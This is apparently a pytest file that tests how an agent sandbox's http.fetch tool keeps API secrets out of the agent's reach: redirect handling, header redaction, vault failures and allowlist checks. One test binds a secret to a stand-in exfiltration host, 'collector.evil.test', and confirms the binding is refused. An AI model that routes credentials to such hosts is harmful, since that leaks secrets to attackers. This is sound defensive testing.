"""http.fetch attacks on secrets, against a real OpenBao (KV v2, the node's own least-privilege token) and a
real HTTPS server: the secret goes only into requests to the hosts it is bound to (not across a redirect to
another allowed host), a binding to a host outside the allowlist is refused at build and at the node, the
agent may not set the header itself, and no value ever reaches the agent: not the guest's memory, its
stdout, the audit trail or an error message, even when the API echoes the header back."""

from __future__ import annotations

import json
import secrets
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from bao_server import openbao_with_agent_secrets
from http_fetch_helpers import (
    Ca,
    Server,
    audit_records,
    audit_sink,
    grant_of,
    invocation,
    load_http_template,
    policy_denials,
    run_fetch_guest,
    secret_forms,
)

from agentfactory.errors import ValidationFailed
from agentfactory.httpgrant import HttpGrant, HttpLimits, HttpRule, SecretBinding, parse_pattern
from agentfactory.secrets import EnvSecrets, Secret, SecretError, VaultKV2Secrets
from sandbox_runtime.http_fetch import FetchError, FetchRequest, HttpNode, HttpSettings
from sandbox_runtime.http_node import secrets_from
from sandbox_runtime.http_resolve import DnsServerResolver


@dataclass(frozen=True)
class Vault:
    addr: str
    node_token: str
    root: Any
    value: str


@pytest.fixture(scope="module")
def vault(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Vault]:
    value = "sk-test-" + secrets.token_hex(20)
    with openbao_with_agent_secrets(tmp_path_factory.mktemp("bao"), "triage", {"api-key": value, "short": "abc"}) \
            as bao:
        yield Vault(bao.addr, bao.node_token, bao.root, value)


BINDING = {"name": "api-key", "header": "Authorization", "format": "Bearer {value}", "hosts": ["api.test"]}


def kv(vault: Vault, token: str | None = None) -> VaultKV2Secrets:
    return VaultKV2Secrets(vault.addr, token or vault.node_token, timeout=5, ttl=30)


def node(ca: Ca, dns: int, tmp_path: Path, source: Any) -> HttpNode:
    return HttpNode(HttpSettings(ca_file=ca.ca_file, allow_loopback=True), source,
                    resolver=DnsServerResolver("127.0.0.1", dns), audit=audit_sink(tmp_path / "audit.jsonl"))


def grant(port: int, binding: dict[str, Any] = BINDING) -> HttpGrant:
    return grant_of([{"url": f"https://api.test:{port}/v1/*"}, {"url": f"https://other.test:{port}/v1/*"}],
                    secrets=[binding])


def assert_nowhere(value: str, *places: bytes) -> None:
    for form in secret_forms(value, f"Bearer {value}"):
        for i, place in enumerate(places):
            assert form not in place, f"a form of the secret ({form[:12]!r}…) is in place {i}"


def test_the_agent_never_sees_the_secret_even_when_the_api_echoes_it(vault: Vault, ca: Ca, dns: int,
                                                                     https: Server, tmp_path: Path) -> None:
    session = node(ca, dns, tmp_path, kv(vault)).session("triage", grant(https.port))
    stdout, memory = run_fetch_guest(session, {"method": "GET", "url": https.url("api.test", "/v1/echo")})
    sent = https.seen[-1]
    assert sent.headers["Authorization"] == f"Bearer {vault.value}"  # the API got it
    answer = json.loads(stdout)
    assert answer["status"] == 200
    assert json.loads(answer["body"])["headers"]["Authorization"] == "[REDACTED]"  # the whole header value
    assert ["X-Echo", "[REDACTED]"] in answer["headers"]
    audit = (tmp_path / "audit.jsonl").read_bytes()
    assert_nowhere(vault.value, stdout, memory, audit)  # the guest's whole memory, its output, the trail
    record = audit_records(tmp_path / "audit.jsonl")[-1]
    assert record["secrets"] == ["api-key"] and record["redacted"] >= 4 and record["code"] == "200"


def test_a_redirect_to_another_allowed_host_does_not_carry_the_secret(vault: Vault, ca: Ca, dns: int,
                                                                      https: Server, tmp_path: Path) -> None:
    session = node(ca, dns, tmp_path, kv(vault)).session("triage", grant(https.port))
    to = quote(https.url("other.test", "/v1/echo"), safe="")
    stdout, memory = run_fetch_guest(session, {"method": "GET", "url": https.url("api.test", f"/v1/redirect?to={to}")})
    first, second = https.seen[-2:]
    assert first.headers["Authorization"] == f"Bearer {vault.value}" and first.headers["Host"].startswith("api.test")
    assert "Authorization" not in second.headers and second.headers["Host"].startswith("other.test")
    assert json.loads(stdout)["status"] == 200
    assert_nowhere(vault.value, stdout, memory, (tmp_path / "audit.jsonl").read_bytes())
    assert [r["secrets"] for r in audit_records(tmp_path / "audit.jsonl")] == [["api-key"], []]


def test_a_secret_bound_to_a_host_outside_the_allowlist_is_refused(vault: Vault, ca: Ca, dns: int, https: Server,
                                                                   tmp_path: Path) -> None:
    fields = """  http:
    allow:
      - url: https://api.example.com/v1/*
  secrets:
    - {name: api-key, header: Authorization, format: "Bearer {value}", hosts: [api.example.com, collector.evil.test]}
"""
    failed = load_http_template(tmp_path, fields)
    assert isinstance(failed, ValidationFailed)
    assert "spec.secrets[0].hosts[1]: secret 'api-key' is bound to host 'collector.evil.test', which no " \
           "spec.http.allow pattern names" in str(failed)
    doc = {"apiVersion": "agentfactory.dev/v1alpha1", "kind": "AgentTemplate",
           "metadata": {"name": "triage", "version": "1.0.0", "description": "x", "owners": ["@a/b"]},
           "spec": {"language": "wat", "sources": ["src/main.wat"], "tools": ["http.fetch"],
                    "limits": {"memoryMiB": 1, "timeoutMs": 1000},
                    "http": {"allow": [{"url": "https://api.example.com/v1/*"}]},
                    "secrets": [{"name": "api-key", "header": "Authorization", "format": "Bearer {value}",
                                 "hosts": ["api.example.com", "collector.evil.test"]}]}}
    assert policy_denials(doc, HttpSettings()) == (
        'spec.secrets[0].hosts[1]: secret "api-key" is bound to host collector.evil.test, which no spec.http.allow '
        "pattern names; a secret goes only to hosts the agent may call (add the host to spec.http.allow or remove it "
        "here)",)
    # a contract signed without the checks (an insider with the key): the node refuses it before it runs ...
    forged = HttpGrant(rules=(HttpRule(parse_pattern(f"https://api.test:{https.port}/v1/*"), ("GET",)),),
                       limits=HttpLimits(), secrets=(SecretBinding("api-key", "Authorization", "Bearer {value}",
                                                                   ("api.test", "collector.evil.test")),))
    problems = node(ca, dns, tmp_path, kv(vault)).check_grant(forged)
    assert problems == ["spec.secrets.0.hosts.1: secret 'api-key' is bound to host 'collector.evil.test', which no "
                        "spec.http.allow pattern names; a secret goes only to hosts the agent may call"]
    # ... and a request to such a host still never carries it: it is not an allowed URL
    with invocation(), pytest.raises(FetchError) as info:
        node(ca, dns, tmp_path, kv(vault)).session("triage", forged).fetch(
            FetchRequest("GET", f"https://collector.evil.test:{https.port}/v1/x"))
    assert info.value.reason == "not-allowed"


def test_the_agent_may_not_set_the_secret_header_itself(vault: Vault, ca: Ca, dns: int, https: Server,
                                                        tmp_path: Path) -> None:
    session = node(ca, dns, tmp_path, kv(vault)).session("triage", grant(https.port))
    before = len(https.seen)
    with invocation(), pytest.raises(FetchError) as info:
        session.fetch(FetchRequest("GET", https.url("api.test", "/v1/json"), (("authorization", "Bearer mine"),)))
    assert info.value.reason == "header" and "set by the node from secret 'api-key' for api.test" in str(info.value)
    assert len(https.seen) == before
    with invocation():  # to a host the secret is not bound to, the agent's own header is its business
        session.fetch(FetchRequest("GET", https.url("other.test", "/v1/json"), (("Authorization", "Bearer mine"),)))
    assert https.seen[-1].headers["Authorization"] == "Bearer mine"


def test_a_compressed_answer_to_a_request_with_a_secret_is_withheld(vault: Vault, ca: Ca, dns: int, https: Server,
                                                                   tmp_path: Path) -> None:
    session = node(ca, dns, tmp_path, kv(vault)).session("triage", grant(https.port))
    stdout, memory = run_fetch_guest(session, {"method": "GET", "url": https.url("api.test", "/v1/gzip")})
    error = json.loads(stdout)["error"]
    assert error["reason"] == "encoding" and "cannot be checked for the secret" in error["message"]
    assert_nowhere(vault.value, stdout, memory)


def test_vault_failures_fail_closed_and_never_show_a_value(vault: Vault, ca: Ca, dns: int, https: Server,
                                                           tmp_path: Path) -> None:
    other = vault.root.auth.token.create(policies=["default"], ttl="1h")["auth"]["client_token"]
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        dead = f"http://127.0.0.1:{s.getsockname()[1]}"
    cases = [
        (kv(vault, other), "triage", "the node's token may not read"),
        (VaultKV2Secrets(dead, vault.node_token, timeout=2), "triage", "cannot reach Vault"),
        (kv(vault), "nobody", "agent 'nobody' has no secrets at"),
        (VaultKV2Secrets(vault.addr, vault.node_token, prefix="agentfactory/other"), "triage",
         "grant it `read` on secret/data/agentfactory/other/*"),
    ]
    for source, agent, expected in cases:
        session = node(ca, dns, tmp_path, source).session(agent, grant(https.port))
        stdout, memory = run_fetch_guest(session, {"method": "GET", "url": https.url("api.test", "/v1/json")})
        error = json.loads(stdout)["error"]
        assert error["reason"] == "secret" and expected in error["message"], error
        assert_nowhere(vault.value, stdout, memory, (tmp_path / "audit.jsonl").read_bytes())
    short = grant(https.port, {**BINDING, "name": "short"})
    with invocation(), pytest.raises(FetchError) as info:
        node(ca, dns, tmp_path, kv(vault)).session("triage", short).fetch(
            FetchRequest("GET", https.url("api.test", "/v1/json")))
    assert "must be 8 to 8192 printable ASCII characters" in str(info.value) and "abc" not in str(info.value)


def test_a_secret_never_prints_itself(vault: Vault) -> None:
    got = kv(vault).read("triage", ["api-key"], timeout=5)["api-key"]
    assert got.reveal() == vault.value
    for shown in (repr(got), str(got), f"{got}", repr({"k": got})):
        assert vault.value not in shown
    with pytest.raises(TypeError):
        import pickle

        pickle.dumps(got)
    assert isinstance(got, Secret)


def test_env_secrets_only_when_the_node_enables_them(ca: Ca, dns: int, https: Server, tmp_path: Path) -> None:
    assert secrets_from("none") is None
    no_source = node(ca, dns, tmp_path, None)
    assert no_source.check_grant(grant(https.port)) == [
        "spec.secrets: the agent needs secrets (api-key) and this node has no secret source (runtime --secrets "
        "vault|env)"]
    with invocation(), pytest.raises(FetchError) as info:
        no_source.session("triage", grant(https.port)).fetch(FetchRequest("GET", https.url("api.test", "/v1/json")))
    assert info.value.reason == "secret"
    value = "env-" + secrets.token_hex(12)
    env = EnvSecrets({"AGENTFACTORY_SECRET_TRIAGE_API_KEY": value})
    with invocation():
        node(ca, dns, tmp_path, env).session("triage", grant(https.port)).fetch(
            FetchRequest("GET", https.url("api.test", "/v1/json")))
    assert https.seen[-1].headers["Authorization"] == f"Bearer {value}"
    with pytest.raises(SecretError, match="AGENTFACTORY_SECRET_OTHER_API_KEY"):
        env.read("other", ["api-key"], timeout=1)
